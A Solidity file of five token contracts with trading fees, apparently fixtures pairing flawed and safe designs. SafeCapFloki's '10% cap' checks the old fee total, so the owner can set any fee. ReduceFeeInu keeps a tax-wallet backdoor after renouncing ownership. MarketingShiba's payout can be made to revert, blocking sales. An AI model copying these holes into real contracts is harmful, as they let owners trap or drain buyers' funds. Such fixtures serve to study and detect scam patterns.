// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import "@openzeppelin/contracts/access/Ownable.sol";
import "./z00Pool.sol";

/// 3% per trade, paid to marketing in ether.
contract MarketingShiba is Pooled22, Ownable {
  address payable public marketingWallet;
  uint256 public constant FEE = 3;
  uint256 public swapTokensAtAmount;
  mapping(address => bool) public isExcludedFromFees;
  bool private swapping;

  event MarketingWalletUpdated(address indexed newWallet, address indexed oldWallet);

  constructor() ERC20("Marketing Shiba", "MSHIB") Ownable(msg.sender) {
    marketingWallet = payable(msg.sender);
    isExcludedFromFees[msg.sender] = true;
    isExcludedFromFees[address(this)] = true;
    _mint(msg.sender, 1_000_000_000 ether);
    swapTokensAtAmount = totalSupply() / 50_000;
  }

  receive() external payable {}

  function updateMarketingWallet(address payable newWallet) external onlyOwner {
    require(newWallet != address(0), "zero address");
    emit MarketingWalletUpdated(newWallet, marketingWallet);
    marketingWallet = newWallet;
  }

  function _update(address from, address to, uint256 amount) internal override {
    bool trade = from == uniswapV2Pair || to == uniswapV2Pair;
    if (swapping || !trade || isExcludedFromFees[from] || isExcludedFromFees[to]) return super._update(from, to, amount);
    if (to == uniswapV2Pair && balanceOf(address(this)) >= swapTokensAtAmount) _swapBack();
    uint256 fee = (amount * FEE) / 100;
    super._update(from, address(this), fee);
    super._update(from, to, amount - fee);
  }

  function _swapBack() private {
    swapping = true;
    uint256 amount = balanceOf(address(this));
    if (amount > swapTokensAtAmount * 20) amount = swapTokensAtAmount * 20;
    _sellForEther(amount);
    marketingWallet.transfer(address(this).balance);
    swapping = false;
  }
}

/// Sell fees that are checked to be at most 10%.
contract SafeCapFloki is Pooled22, Ownable {
  uint256 public buyTotalFees = 2;
  uint256 public sellMarketingFee = 1;
  uint256 public sellLiquidityFee = 1;
  uint256 public sellDevFee;
  uint256 public sellTotalFees = 2;
  address public treasury;
  mapping(address => bool) private _exempt;

  constructor() ERC20("Safe Cap Floki", "SCFLOKI") Ownable(msg.sender) {
    treasury = msg.sender;
    _exempt[msg.sender] = true;
    _mint(msg.sender, 420_690_000 ether);
  }

  function updateSellFees(uint256 marketingFee, uint256 liquidityFee, uint256 devFee) external onlyOwner {
    require(sellTotalFees <= 10, "Must keep fees at 10% or less");
    sellMarketingFee = marketingFee;
    sellLiquidityFee = liquidityFee;
    sellDevFee = devFee;
    sellTotalFees = marketingFee + liquidityFee + devFee;
  }

  function _update(address from, address to, uint256 amount) internal override {
    uint256 rate;
    if (!_exempt[from] && !_exempt[to]) {
      if (to == uniswapV2Pair) rate = sellTotalFees;
      else if (from == uniswapV2Pair) rate = buyTotalFees;
    }
    uint256 fee = (amount * rate) / 100;
    if (fee > 0) super._update(from, treasury, fee);
    super._update(from, to, amount - fee);
  }
}

/// The template of a thousand launches: taxes fall after the first buys, and the owner is gone.
contract ReduceFeeInu is Pooled22, Ownable {
  address payable private _taxWallet;
  uint256 private _initialBuyTax = 20;
  uint256 private _initialSellTax = 70;
  uint256 private _finalBuyTax = 2;
  uint256 private _finalSellTax = 2;
  uint256 private _reduceBuyTaxAt = 1;
  uint256 private _reduceSellTaxAt = 2;
  uint256 private _buyCount;

  constructor() ERC20("Reduce Fee Inu", "RFINU") Ownable(msg.sender) {
    _taxWallet = payable(msg.sender);
    _mint(msg.sender, 1_000_000_000 ether);
    renounceOwnership();
  }

  function reduceFee(uint256 newFee) external {
    require(_msgSender() == _taxWallet);
    if (newFee <= _finalSellTax) {
      _finalBuyTax = newFee;
      _finalSellTax = newFee;
    } else {
      _reduceSellTaxAt = _buyCount + newFee;
    }
  }

  function _update(address from, address to, uint256 amount) internal override {
    uint256 taxAmount;
    if (from != _taxWallet && to != _taxWallet && from != address(0)) {
      if (from == uniswapV2Pair) {
        taxAmount = (amount * (_buyCount > _reduceBuyTaxAt ? _finalBuyTax : _initialBuyTax)) / 100;
        _buyCount++;
      } else if (to == uniswapV2Pair) {
        taxAmount = (amount * (_buyCount > _reduceSellTaxAt ? _finalSellTax : _initialSellTax)) / 100;
      }
    }
    if (taxAmount > 0) super._update(from, _taxWallet, taxAmount);
    super._update(from, to, amount - taxAmount);
  }
}

/// As MarketingShiba, but neither a swap nor a payout that fails can hold up a sale.
contract MarketingAkita is Pooled22, Ownable {
  address public marketingWallet;
  uint256 public constant FEE = 3;
  uint256 public immutable swapTokensAtAmount;
  address private immutable _maker;
  bool private swapping;

  constructor() ERC20("Marketing Akita", "MAKITA") Ownable(msg.sender) {
    marketingWallet = msg.sender;
    _maker = msg.sender;
    _mint(msg.sender, 1_000_000_000 ether);
    swapTokensAtAmount = totalSupply() / 50_000;
  }

  receive() external payable {}

  function updateMarketingWallet(address newWallet) external onlyOwner {
    require(newWallet != address(0), "zero address");
    marketingWallet = newWallet;
  }

  function swapOwn(uint256 amount) external {
    require(msg.sender == address(this), "only itself");
    _sellForEther(amount);
  }

  function _update(address from, address to, uint256 amount) internal override {
    bool trade = from == uniswapV2Pair || to == uniswapV2Pair;
    if (swapping || !trade || from == _maker || from == address(this)) return super._update(from, to, amount);
    if (to == uniswapV2Pair && balanceOf(address(this)) >= swapTokensAtAmount) _swapBack();
    uint256 fee = (amount * FEE) / 100;
    super._update(from, address(this), fee);
    super._update(from, to, amount - fee);
  }

  function _swapBack() private {
    swapping = true;
    uint256 amount = balanceOf(address(this));
    if (amount > swapTokensAtAmount * 20) amount = swapTokensAtAmount * 20;
    try this.swapOwn(amount) {} catch {}
    uint256 money = address(this).balance;
    address payee = marketingWallet;
    // No answer is read, so none can be made long.
    assembly {
      pop(call(30000, payee, money, 0, 0, 0, 0))
    }
    swapping = false;
  }
}

/// Fees that the owner can only ever lower.
contract FallingFeeFloki is Pooled22, Ownable {
  uint256 public buyTotalFees = 3;
  uint256 public sellTotalFees = 4;
  address public treasury;
  address private immutable _maker;

  constructor() ERC20("Falling Fee Floki", "FFFLOKI") Ownable(msg.sender) {
    treasury = msg.sender;
    _maker = msg.sender;
    _mint(msg.sender, 420_690_000 ether);
  }

  function updateFees(uint256 buyFee, uint256 sellFee) external onlyOwner {
    require(buyFee <= buyTotalFees && sellFee <= sellTotalFees, "only lower");
    buyTotalFees = buyFee;
    sellTotalFees = sellFee;
  }

  function updateTreasury(address to) external onlyOwner {
    require(to != address(0) && to != uniswapV2Pair, "not there");
    treasury = to;
  }

  function _update(address from, address to, uint256 amount) internal override {
    uint256 rate;
    if (from != _maker) {
      if (to == uniswapV2Pair) rate = sellTotalFees;
      else if (from == uniswapV2Pair) rate = buyTotalFees;
    }
    uint256 fee = (amount * rate) / 100;
    if (fee > 0) super._update(from, treasury, fee);
    super._update(from, to, amount - fee);
  }
}
